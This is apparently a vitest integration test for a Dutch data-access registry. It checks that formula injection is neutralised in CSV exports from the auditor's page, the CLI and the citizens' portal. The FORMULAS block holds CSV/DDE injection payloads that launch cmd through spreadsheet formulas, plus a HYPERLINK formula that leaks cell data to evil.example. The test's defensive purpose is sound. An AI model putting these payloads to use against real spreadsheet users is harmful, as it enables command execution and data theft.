/**
 * Formula injection into the CSV exports, against `pnpm start`: the registry's administrator (or
 * anyone who controls a name in the registry) names organisations and a verwerkingsactiviteit as
 * spreadsheet formulas, through the admin API: bare, behind blanks a spreadsheet trims (a space, U+3000,
 * and a line feed, which the registry now refuses, so that one is written into its database as an old
 * row may hold it), and behind the other separator (`Gemeente Utrecht,=…` in the citizens' `;` file, `Wmo;=…`
 * in the auditor's `,` file, which a spreadsheet that guesses the separator splits there). The coverage
 * report's CSV, from the auditor's page and from `poortwachter audit coverage --format csv` (the CLI as a
 * child process), and the citizens' overview downloaded in Chromium carry no live formula, read with
 * either separator: every cell that starts with = + - @ after its blanks is neutralised with `'`.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { readCsv } from '@poortwachter/protocol/testing';
import { openDatabase, type RegistryDatabase } from '@poortwachter/registry';
import { demoPrivateKey, grantByContract, signAsOrganisation } from '@poortwachter/registry/testing';
import { DEMO_OIN, DEMO_PROCESSING_ACTIVITY } from '@poortwachter/seeds';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { querySuzanne } from '../operations/server-entry.ts';
import { launchChromium } from '../portal/browser.ts';
import { runCli } from '../run-process.ts';
import { gatewayHasNewestDirectory, type RunningSystem, startSystem } from '../start-system.ts';
import type { RawJwk } from './raw-client.ts';

const FORMULAS = {
  // Behind a comma: the citizens' (;) overview wrote it bare before, and a comma-splitting spreadsheet ran "=1+…".
  utrecht: "Gemeente Utrecht,=1+cmd|' /C calc'!A0",
  // Behind a space: a spreadsheet trims it and runs the rest.
  uwv: ' =HYPERLINK("https://evil.example/?leak="&B2,"x")',
  // Behind a line feed, and behind the ideographic space U+3000.
  rotterdam: "\n@SUM(1+1)*cmd|' /C calc'!A0",
  haarlem: "\u3000-2+3+cmd|' /C calc'!A0",
  // Behind a semicolon: the auditor's (,) CSV wrote it bare before.
  wmo: "Wmo;=1+cmd|' /C calc'!A0",
};

/**
 * Every cell a spreadsheet would run, read with `,` and with `;` (and tab): starting with = + - @ (or a
 * full-width form) once the blanks a spreadsheet trims are skipped, or with a tab or carriage return,
 * and not a number.
 */
const liveFormulas = (csv: string) =>
  [',', ';', '\t'].flatMap((separator) =>
    readCsv(csv, separator)
      .flat()
      .filter(
        (cell) =>
          (/^[\t\r]/.test(cell) || /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell.replace(/^[\s\u200B\uFEFF]+/u, ''))) &&
          !/^-?\d+(\.\d+)?$/.test(cell),
      )
      .map((cell) => `${JSON.stringify(separator)}: ${JSON.stringify(cell)}`),
  );

async function cli(args: string[], env: Record<string, string>) {
  const { code, out } = await runCli(args, { env });
  return { code, stdout: out };
}

describe("no live formula in the auditor's CSV, whatever the registry's names", () => {
  let system: RunningSystem;
  let registry: string;
  let adminToken: string;

  const admin = async (method: 'GET' | 'PUT', path: string, body?: unknown) => {
    const res = await fetch(`${registry}/v1${path}`, {
      method,
      headers: { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    expect(res.status, `${method} ${path}: ${await res.clone().text()}`).toBeLessThan(300);
    return (await res.json()) as Record<string, unknown>;
  };

  /** A change as organisation `oin` makes it: a request signed with its (demo) key. */
  const asOrganisation = async (oin: string, path: string, body: unknown) => {
    const privateKey = demoPrivateKey(join(system.data, 'keys'), oin);
    const { url, init } = await signAsOrganisation({
      registryUrl: registry,
      method: 'PUT',
      path: `/v1${path}`,
      body,
      privateKey,
    });
    const res = await fetch(url, init);
    expect(res.status, `PUT ${path}: ${await res.clone().text()}`).toBeLessThan(300);
  };

  /** Renames an organisation as the organisation itself, keeping what else it is. */
  async function renameOrganisation(oin: string, name: string) {
    const { kind, roles, privacyContact, webOrigins } = await admin('GET', `/organisations/${oin}`);
    await asOrganisation(oin, `/organisations/${oin}`, {
      name,
      kind,
      roles,
      ...(privacyContact ? { privacyContact } : {}),
      ...(webOrigins ? { webOrigins } : {}),
    });
  }

  /** A new version of a verwerkingsactiviteit with another name, from now on. */
  async function renameActivity(id: string, name: string) {
    const activity = (await admin('GET', `/processing-activities/${encodeURIComponent(id)}`)) as {
      versions: Record<string, unknown>[];
    };
    const { doel, grondslagIds, responsibleOin, bewaartermijn, vertrouwelijkheid } = activity.versions.at(-1) ?? {};
    await asOrganisation(String(responsibleOin), `/processing-activities/${encodeURIComponent(id)}`, {
      name,
      doel,
      grondslagIds,
      responsibleOin,
      bewaartermijn,
      vertrouwelijkheid,
    });
  }

  beforeAll(async () => {
    system = await startSystem({ env: { DIRECTORY_REFRESH_SECONDS: '1' } });
    registry = `http://localhost:${system.ports.registry}`;
    adminToken = readFileSync(join(system.data, 'registry-admin-token'), 'utf8').trim();
    // A name behind a line feed the registry now refuses (a control character); a row from before that
    // rule may still hold one, so it is written past the admin API, and published with the changes below.
    const { db, close } = openDatabase<RegistryDatabase>(`sqlite:${join(system.data, 'registry.db')}`);
    try {
      await db
        .updateTable('organisations')
        .set({ name: FORMULAS.rotterdam })
        .where('oin', '=', DEMO_OIN.rotterdam)
        .execute();
    } finally {
      await close();
    }
    await renameOrganisation(DEMO_OIN.utrecht, FORMULAS.utrecht);
    await renameOrganisation(DEMO_OIN.uwv, FORMULAS.uwv);
    await renameOrganisation(DEMO_OIN.haarlem, FORMULAS.haarlem);
    await renameActivity(DEMO_PROCESSING_ACTIVITY.utrechtWmo, FORMULAS.wmo);
    // A new version of the activity needs a new contract, which RvIG accepts too (the old one bound version 1).
    await grantByContract(registry, join(system.data, 'keys'), {
      afnemerOin: DEMO_OIN.utrecht,
      serviceId: 'brp-personen',
      processingActivityId: DEMO_PROCESSING_ACTIVITY.utrechtWmo,
      fields: ['burgerservicenummer', 'naam.geslachtsnaam'],
      searchTypes: ['RaadpleegMetBurgerservicenummer'],
    });
    await gatewayHasNewestDirectory(system);
    // One access under the renamed names, so that a coverage row carries them.
    const key = JSON.parse(readFileSync(join(system.data, 'keys', `${DEMO_OIN.utrecht}.jwk.json`), 'utf8')) as RawJwk;
    const res = await querySuzanne(`http://127.0.0.1:${system.ports.gateway}`, system.ports.gateway, key, [
      'naam.geslachtsnaam',
    ]);
    expect(res.status, await res.text()).toBe(200);
  }, 180_000);

  afterAll(async () => {
    await system?.stop();
  });

  /** The CSV holds the names, each neutralised, and no live formula at all. */
  function expectNeutralised(csv: string) {
    expect(csv.split('\n')[0]).toMatch(/^kind,gateway,afnemer,/);
    expect(liveFormulas(csv)).toEqual([]);
    const cells = readCsv(csv, ',').flat();
    // The afnemer of the coverage row, the activity of that row, and the names in the findings: one
    // cell each (quoted), neutralised where the name itself starts a formula after its blanks.
    expect(cells).toContain(FORMULAS.utrecht);
    expect(cells).toContain(FORMULAS.wmo);
    expect(cells).toContain(`'${FORMULAS.uwv}`);
  }

  it("the auditor's page's coverage.csv", async () => {
    const today = new Date().toISOString().slice(0, 10);
    const res = await fetch(`http://127.0.0.1:${system.ports.auditor}/coverage.csv?from=${today}&to=${today}`);
    const csv = await res.text();
    expect(res.status, csv.slice(0, 300)).toBe(200);
    expectNeutralised(csv);
  });

  it('poortwachter audit coverage --format csv', async () => {
    const { code, stdout } = await cli(['audit', 'coverage', '--format', 'csv'], {
      DATA_DIR: system.data,
      REGISTRY_URL: registry,
    });
    expect([0, 1]).toContain(code);
    expectNeutralised(stdout);
  }, 60_000);

  it("the citizens' overview (;), downloaded in Chromium", async () => {
    const browser = await launchChromium();
    try {
      const page = await browser.newPage({ locale: 'nl-NL', timezoneId: 'Europe/Amsterdam' });
      await page.goto(`http://localhost:${system.ports.portal}/`);
      await page.locator('#login').click();
      await page.waitForURL(/\/authorize\?/);
      await page.locator('button[name="bsn"][value="999993653"]').click();
      await page.waitForSelector('#download-csv', { timeout: 30_000 });
      const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#download-csv').click()]);
      const csv = readFileSync((await download.path()) as string, 'utf8');
      expect(csv).toContain(';');
      expect(liveFormulas(csv)).toEqual([]);
      const cells = readCsv(csv, ';').flat();
      expect(cells).toContain(FORMULAS.utrecht);
      expect(cells).toContain(FORMULAS.wmo);
    } finally {
      await browser.close();
    }
  }, 90_000);
});
